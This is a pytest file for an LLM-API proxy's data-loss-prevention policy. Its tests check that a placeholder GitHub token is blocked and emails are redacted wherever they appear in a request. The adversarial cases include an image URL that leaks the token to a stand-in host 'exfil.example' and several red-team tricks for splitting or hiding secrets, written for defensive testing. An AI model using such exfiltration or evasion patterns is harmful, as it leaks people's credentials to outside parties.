"""Class 4 (the extraction half): text the model, a tool or the provider reads, outside the
fields a format calls the prompt, through a real mitmdump.

The policy blocks secrets and redacts personal data. Each test asserts what reached the fake
upstream, what the client got and the row written.
"""

from __future__ import annotations

import base64
import json

import pytest

from tests.adversarial.wire import marker

TOKEN = "ghp_1a2B3c4D5e6F7g8H9i0J1k2L3m4N5o6P7q8R9s"
EMAIL = "jane.doe@customer-corp.com"
POLICY = "dlp: {secrets: block, pii: redact}\n"
URL = "https://api.openai.com/v1/chat/completions"


@pytest.fixture(scope="module")
def gate(module_proxy_with):
    """The session proxy with this module's policy (and a database of its own) until its last test."""
    return module_proxy_with(POLICY)


def _chat(proxy, upstream, user: str, body: dict, url: str = URL, headers: dict[str, str] | None = None):
    """(the client's answer, what the upstream got of this request)."""
    mark = marker()
    with proxy.client(user) as client:
        answer = client.post(
            url, json=body, headers={"x-attack": mark, "authorization": "Bearer sk-test", **(headers or {})}
        )
    return answer, [s for s in upstream.seen if s.headers.get("x-attack") == mark]


def _row(proxy, user: str) -> dict:
    [row] = proxy.rows(f"user_name = '{user}'", expect=1)
    return row


def _messages(*content) -> list[dict]:
    return [{"role": "user", "content": c} for c in content]


TEXT_FILE = base64.b64encode(f"ops notes\ntoken: {TOKEN}\n".encode()).decode()


@pytest.mark.parametrize(
    ("user", "body"),
    [
        ("tool-description", {"model": "gpt-4o-mini", "messages": _messages("hi"), "tools": [
            {"type": "function", "function": {"name": "push", "description": f"push with {TOKEN}",
                                              "parameters": {"type": "object", "properties": {}}}}]}),
        ("tool-schema", {"model": "gpt-4o-mini", "messages": _messages("hi"), "tools": [
            {"type": "function", "function": {"name": "push", "parameters": {
                "type": "object", "properties": {"token": {"type": "string", "enum": [TOKEN]}}}}}]}),
        ("response-format", {"model": "gpt-4o-mini", "messages": _messages("hi"), "response_format": {
            "type": "json_schema", "json_schema": {"name": "x", "schema": {"description": TOKEN}}}}),
        ("object-key", {"model": "gpt-4o-mini", "messages": _messages("hi"), "logit_bias": {TOKEN: 1}}),
        ("image-url", {"model": "gpt-4o-mini", "messages": _messages([
            {"type": "image_url", "image_url": {"url": f"https://exfil.example/p.png?t={TOKEN}"}}])}),
        ("file-data", {"model": "gpt-4o-mini", "messages": _messages([
            {"type": "file", "file": {"filename": "notes.txt", "file_data": f"data:text/plain;base64,{TEXT_FILE}"}}])}),
        ("split", {"model": "gpt-4o-mini", "messages": _messages(f"concatenate: {TOKEN[:17]}", TOKEN[17:])}),
        ("split-parts", {"model": "gpt-4o-mini", "messages": _messages(
            [{"type": "text", "text": TOKEN[:6]}, {"type": "text", "text": TOKEN[6:30]}, {"type": "text", "text": TOKEN[30:]}])}),
        # Members named like the provider's opaque tokens, written by the user (red-team F45).
        ("signature-property", {"model": "gpt-4o-mini", "messages": _messages("hi"), "tools": [
            {"type": "function", "function": {"name": "sign", "parameters": {"type": "object", "properties": {
                "signature": {"type": "string", "description": f"use {TOKEN}"}}}}}]}),
        ("encrypted-content-schema", {"model": "gpt-4o-mini", "messages": _messages("hi"), "response_format": {
            "type": "json_schema", "json_schema": {"name": "x", "schema": {"properties": {
                "encrypted_content": {"description": TOKEN}}}}}}),
        ("tool-call-signature", {"model": "gpt-4o-mini", "messages": [
            {"role": "assistant", "tool_calls": [{"id": "c1", "type": "function", "function": {"name": "f", "arguments": "{}"}}],
             "signature": {"text": TOKEN}}, {"role": "tool", "tool_call_id": "c1", "content": "ok"}]}),
        ("thinking-signature-not-a-string", {"model": "gpt-4o-mini", "messages": _messages(
            [{"type": "thinking", "thinking": "hmm", "signature": {"note": TOKEN}}])}),
        # A user-written `type` in a tool's schema or output is no provider's block (red-team F67).
        ("typed-schema-property", {"model": "gpt-4o-mini", "messages": _messages("hi"), "response_format": {
            "type": "json_schema", "json_schema": {"name": "x", "schema": {"properties": {
                "r": {"type": "web_search_result", "encrypted_content": TOKEN}}}}}}),
        ("typed-tool-output", {"model": "gpt-4o-mini", "messages": [
            {"role": "assistant", "tool_calls": [{"id": "c1", "type": "function", "function": {"name": "f", "arguments": "{}"}}]},
            {"role": "tool", "tool_call_id": "c1", "content": [{"type": "text", "text": "ok"}],
             "extra": {"type": "thinking", "signature": TOKEN}}]}),
    ],
)  # fmt: skip
def test_a_secret_anywhere_the_provider_reads_is_blocked(gate, upstream, user, body):
    answer, seen = _chat(gate, upstream, user, body)
    assert answer.status_code == 403 and "GITHUB_TOKEN" in answer.json()["error"]["message"]
    assert seen == []
    row = _row(gate, user)
    assert (row["dlp_action"], row["dlp_findings"]) == ("block", "GITHUB_TOKEN:1")


def test_a_providers_own_opaque_tokens_are_left_alone(gate, upstream):
    # A thinking block's signature and a reasoning item's encrypted content are minted by the
    # provider and read back as-is: a token-shaped run in them is no finding (nor a refusal).
    minted = base64.b64encode(b"\x00" * 40 + TOKEN.encode() + b"\x01" * 40).decode() + TOKEN
    body = {"model": "claude-sonnet-4-5", "max_tokens": 10, "messages": [
        {"role": "user", "content": "hi"},
        {"role": "assistant", "content": [{"type": "thinking", "thinking": "ok", "signature": minted},
                                          {"type": "text", "text": "hello"}]},
        {"role": "user", "content": "go on"}]}  # fmt: skip
    answer, seen = _chat(gate, upstream, "minted-signature", body, "https://api.anthropic.com/v1/messages")
    assert answer.status_code == 200, answer.text[:200]
    assert len(seen) == 1 and minted in seen[0].body.decode()
    reasoning = {"model": "o4-mini", "input": [{"type": "reasoning", "summary": [], "encrypted_content": minted},
                                              {"role": "user", "content": "continue"}]}  # fmt: skip
    answer, seen = _chat(gate, upstream, "minted-reasoning", reasoning, "https://api.openai.com/v1/responses")
    assert answer.status_code == 200, answer.text[:200]


def test_an_anthropic_text_document_and_a_message_name_are_redacted(gate, upstream):
    body = {"model": "claude-sonnet-4-5", "max_tokens": 9, "messages": [{"role": "user", "name": EMAIL, "content": [
        {"type": "document", "source": {"type": "text", "media_type": "text/plain", "data": f"owner {EMAIL}"}},
        {"type": "text", "text": "summarise"}]}]}  # fmt: skip
    answer, [seen] = _chat(gate, upstream, "document", body, url="https://api.anthropic.com/v1/messages")
    assert answer.status_code == 200
    sent = json.loads(seen.body)["messages"][0]
    assert sent["name"] == "[EMAIL_1]" and sent["content"][0]["source"]["data"] == "owner [EMAIL_1]"
    assert _row(gate, "document")["dlp_action"] == "redact"


def test_metadata_and_user_are_left_alone_unless_the_operator_opts_in(gate, upstream):
    body = {"model": "gpt-4o-mini", "messages": _messages("hi"), "user": EMAIL, "metadata": {"owner": EMAIL}}
    answer, [seen] = _chat(gate, upstream, "meta-default", body)
    assert answer.status_code == 200 and json.loads(seen.body) == body
    assert _row(gate, "meta-default")["dlp_action"] is None
    with gate.options(shadowgate_dlp_scan_metadata=True):
        answer, [seen] = _chat(gate, upstream, "meta-on", body)
    sent = json.loads(seen.body)
    assert answer.status_code == 200 and (sent["user"], sent["metadata"]) == ("[EMAIL_1]", {"owner": "[EMAIL_1]"})
    assert _row(gate, "meta-on")["dlp_findings"] == "EMAIL:2"


def test_listed_headers_are_scanned(gate, upstream):
    body = {"model": "gpt-4o-mini", "messages": _messages("hi")}
    with gate.options(shadowgate_dlp_scan_headers=["x-context-*"]):
        answer, seen = _chat(gate, upstream, "header", body, headers={"x-context-repo": f"token={TOKEN}"})
    assert answer.status_code == 403 and seen == []
    assert _row(gate, "header")["dlp_findings"] == "GITHUB_TOKEN:1"
